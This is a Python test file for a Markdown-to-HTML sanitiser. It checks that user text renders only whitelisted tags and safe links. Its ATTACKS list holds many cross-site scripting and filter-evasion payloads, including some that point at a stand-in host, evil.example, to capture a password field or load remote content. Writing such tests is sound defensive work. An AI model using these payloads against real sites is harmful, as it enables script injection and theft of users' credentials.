"""What people write becomes the few marks we know, and never anything that runs."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hearten.foundation.markup import to_html

KNOWN = {"a", "blockquote", "br", "em", "li", "ol", "p", "strong", "ul"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=pass></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/account/sign-out/)",
    "[x](mailto:somebody@example.org)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) 'onmouseover=alert(1)')",
    '[x](https://e.example/"onmouseover=alert(1))',
    "[x](https://e.example 'x\" onmouseover=\"alert(1)')",
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "[a\n[x]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://e.example/><script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <script>alert(1)</script>",
    "<script>alert(1)</script>\n===",
    "| <script> |\n|---|\n| alert(1) |",
]
"""Of the known lists of filter evasion, and of what Markdown adds to them."""


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str]] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}

    def handle_comment(self, data: str) -> None:
        self.tags.add("a comment")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("a declaration")

    def handle_data(self, data: str) -> None:
        self.text += data


def seen(text: str) -> _Seen:
    parser = _Seen()
    parser.feed(to_html(text))
    parser.close()
    return parser


def harmless(text: str) -> None:
    found = seen(text)
    assert found.tags <= KNOWN
    for tag, name, value in found.attributes:
        if (tag, name) == ("a", "href"):
            assert re.match(r"https?://", value, re.IGNORECASE)
        elif (tag, name) == ("a", "rel"):
            assert value == "nofollow ugc noopener noreferrer"
        else:
            assert (tag, name) == ("ol", "start")
            assert value.isdigit()


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_runs_comes_out(text: str) -> None:
    harmless(text)


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "\n", "\n\n", "*", "> ", "- ", "[", "](", ")", " "]), max_size=6
    )
)
def test_nor_out_of_any_mixture(parts: list[str]) -> None:
    harmless("".join(parts))


@given(st.text())
def test_nor_out_of_any_text(text: str) -> None:
    harmless(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One line.", "<p>One line.</p>"),
        ("One\ntwo\n\nthree", "<p>One<br>\ntwo</p>\n<p>three</p>"),
        ("*soft* and **strong**", "<p><em>soft</em> and <strong>strong</strong></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        ("> so they said", "<blockquote>\n<p>so they said</p>\n</blockquote>"),
        (
            "[here](https://e.example/?a=1&b=2)",
            '<p><a href="https://e.example/?a=1&amp;b=2" rel="nofollow ugc noopener noreferrer">'
            "here</a></p>",
        ),
        ("2 \\* 3", "<p>2 * 3</p>"),
    ],
)
def test_the_marks_we_know(text: str, html: str) -> None:
    assert to_html(text).strip() == html


@pytest.mark.parametrize(
    "text",
    [
        "<b>bold</b>",
        "&amp; &lt;",
        "# A heading",
        "`code`",
        "~~struck~~",
        "[x](javascript:alert(1))",
        "<https://e.example>",
        "https://e.example",
        "snake_case_name",
        "***",
    ],
)
def test_the_rest_stands_as_it_was_typed(text: str) -> None:
    assert seen(text).text.strip() == text
